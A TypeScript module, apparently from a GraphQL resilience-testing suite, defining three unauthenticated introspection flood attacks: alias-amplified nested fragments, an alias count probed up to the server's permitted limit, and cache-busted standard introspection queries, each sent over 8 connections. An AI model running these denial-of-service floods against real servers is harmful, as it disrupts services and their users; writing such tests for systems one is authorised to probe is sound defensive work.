import { getIntrospectionQuery } from 'graphql'
import { type Attack, graphql, repeat } from '../attack.ts'
import { flood, largestPermitted } from '../flood.ts'

/** Fragments that name each other under several aliases; `aliases` of each. */
const aliased = (aliases: number, nth = '') =>
  `{ __schema { types { ...A } } }
   fragment A on __Type { name ${repeat(aliases, (index) => `a${nth}_${index}: fields(includeDeprecated: true) { ...B }`)} }
   fragment B on __Field { name description ${repeat(aliases, (index) => `b${index}: args { ...C }`)} type { ...D } }
   fragment C on __InputValue { name description type { ...D } }
   fragment D on __Type { name description ofType { name description ofType { name description ofType { name description } } } }`

const standard = getIntrospectionQuery()

/** Attacks by introspection, without a token. */
export const introspectionAttacks: readonly Attack[] = [
  {
    row: '7',
    name: 'introspection',
    about: 'introspection with 6 aliases of each of two fragments, without a token, on 8 connections',
    prepare: (target) => ({ strike: flood(target, 8, () => graphql(aliased(6))) }),
  },
  {
    row: '7',
    name: 'introspection-permitted',
    about: 'the same with as many aliases as are permitted, each document another one',
    prepare: async (target) => {
      const size = await largestPermitted(target, 6, (size) => graphql(aliased(size)))
      return { strike: flood(target, 8, (nth) => graphql(aliased(size, String(nth)))), note: `${size} aliases` }
    },
  },
  {
    row: '7',
    name: 'introspection-standard',
    about: 'the standard introspection query, each document another one, without a token, on 8 connections',
    prepare: (target) => ({ strike: flood(target, 8, (nth) => graphql(`${standard}#${nth}`)) }),
  },
]
